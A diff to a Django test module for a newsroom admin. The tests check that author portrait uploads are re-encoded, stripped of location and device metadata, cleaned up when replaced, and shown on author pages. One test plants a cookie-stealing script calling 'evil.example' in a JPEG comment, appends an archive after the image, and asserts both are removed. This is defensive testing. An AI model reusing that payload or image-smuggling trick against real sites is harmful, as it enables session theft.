@@ -1,10 +1,23 @@
 """The editors' desk, exercised over HTTP as an editor would use it."""
 
+import io
+
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from PIL import ExifTags, Image
 
 from articles.models import Article, Author, Citation, PhotoPlacement, Section, Tag
 from newsroom.tests.network import Resolver
+from photos.metadata import IPTC_CREDIT, read_metadata
+from photos.tests.images import (
+    CAMERA_OWNER,
+    CAMERA_SERIAL,
+    camera_exif,
+    iptc_datasets,
+    photo_bytes,
+    with_iptc,
+)
 
 from .factories import make_article, make_author, make_photo, make_section, place_photo
 
@@ -233,3 +246,100 @@ def test_body_uses_the_rich_text_editor_and_is_sanitized_on_save(desk):
         '<h2>Heading</h2><p>Text <a rel="noopener noreferrer">bad</a> '
         '<a href="https://example.org/" rel="noopener noreferrer">good</a></p>'
     )
+
+
+def files_under(path):
+    return sorted(p for p in path.rglob("*") if p.is_file()) if path.exists() else []
+
+
+def portrait_upload(data, name="face.jpg"):
+    return SimpleUploadedFile(name, data, content_type="image/jpeg")
+
+
+def author_form(**fields):
+    return {"name": "Ines Okafor", "slug": "ines-okafor", "job_title": "", "bio": "", **fields}
+
+
+def stored_portrait(author):
+    with author.portrait.open("rb") as file:
+        data = file.read()
+    image = Image.open(io.BytesIO(data))
+    image.load()
+    return data, image
+
+
+def test_a_portrait_is_published_re_encoded_with_only_its_credit_and_rights(desk):
+    # A phone photo, stored sideways (orientation 6), with the phone's GPS, serial and owner.
+    exif = camera_exif(orientation=6, artist="Kai Berg", copyright_notice="Kai Berg 2026")
+    data = with_iptc(photo_bytes(1200, 900, exif=exif), iptc_datasets({IPTC_CREDIT: b"NTB"}))
+    response = desk.post(
+        reverse("admin:articles_author_add"), author_form(portrait=portrait_upload(data))
+    )
+    assert response.status_code == 302
+    author = Author.objects.get()
+    assert author.portrait.name.startswith("authors/ines-okafor-portrait-360w-")
+    assert author.portrait.name.endswith(".jpeg")
+    stored, image = stored_portrait(author)
+    assert (image.format, image.size) == ("JPEG", (360, 360))
+    for secret in (CAMERA_SERIAL, CAMERA_OWNER, "Phonemaker", "Pocket 12"):
+        assert secret.encode() not in stored
+    exif = image.getexif()
+    assert exif.get_ifd(ExifTags.IFD.GPSInfo) == {} and ExifTags.Base.Orientation not in exif
+    assert (exif[ExifTags.Base.Artist], exif[ExifTags.Base.Copyright]) == (
+        "Kai Berg",
+        "Kai Berg 2026",
+    )
+    assert read_metadata(image).fields["credit"] == "NTB"
+    # Upright: the red block drawn at the stored top left is seen at the top right.
+    rgb = image.convert("RGB")
+    assert rgb.getpixel((340, 20))[0] > 200 and rgb.getpixel((20, 20))[0] < 150
+
+
+def test_a_portrait_keeps_no_byte_of_the_upload_beyond_its_picture(desk):
+    # Script with no tag for the upload check to find: in a comment, and after the image.
+    buffer = io.BytesIO()
+    Image.new("RGB", (400, 400), (200, 30, 30)).save(
+        buffer, "JPEG", comment=b"*/=1;fetch('//evil.example/'+document.cookie)/*"
+    )
+    data = buffer.getvalue() + b"PK\x03\x04 then a whole archive after the picture"
+    response = desk.post(
+        reverse("admin:articles_author_add"), author_form(portrait=portrait_upload(data))
+    )
+    assert response.status_code == 302
+    stored, _ = stored_portrait(Author.objects.get())
+    assert b"evil.example" not in stored and b"PK\x03\x04" not in stored
+
+
+def test_a_replaced_or_cleared_portrait_is_deleted_once_the_save_commits(
+    desk, settings, django_capture_on_commit_callbacks
+):
+    url = reverse("admin:articles_author_add")
+    desk.post(url, author_form(portrait=portrait_upload(photo_bytes(600, 600))))
+    author = Author.objects.get()
+    first = author.portrait.name
+    change = reverse("admin:articles_author_change", args=[author.pk])
+    with django_capture_on_commit_callbacks(execute=True):
+        response = desk.post(
+            change, author_form(portrait=portrait_upload(photo_bytes(500, 700, colour=(1, 2, 3))))
+        )
+    assert response.status_code == 302
+    author.refresh_from_db()
+    assert author.portrait.name != first
+    assert files_under(settings.MEDIA_ROOT) == [settings.MEDIA_ROOT / author.portrait.name]
+    with django_capture_on_commit_callbacks(execute=True):
+        response = desk.post(change, author_form(**{"portrait-clear": "on"}))
+    assert response.status_code == 302
+    author.refresh_from_db()
+    assert not author.portrait
+    assert files_under(settings.MEDIA_ROOT) == []
+
+
+def test_the_author_page_shows_the_re_encoded_portrait(desk, client, settings):
+    desk.post(
+        reverse("admin:articles_author_add"),
+        author_form(portrait=portrait_upload(photo_bytes(800, 600))),
+    )
+    author = Author.objects.get()
+    html = client.get(author.get_absolute_url()).content.decode()
+    assert f'src="{author.portrait.url}" width="120" height="120"' in html
+    assert (settings.MEDIA_ROOT / author.portrait.name).is_file()
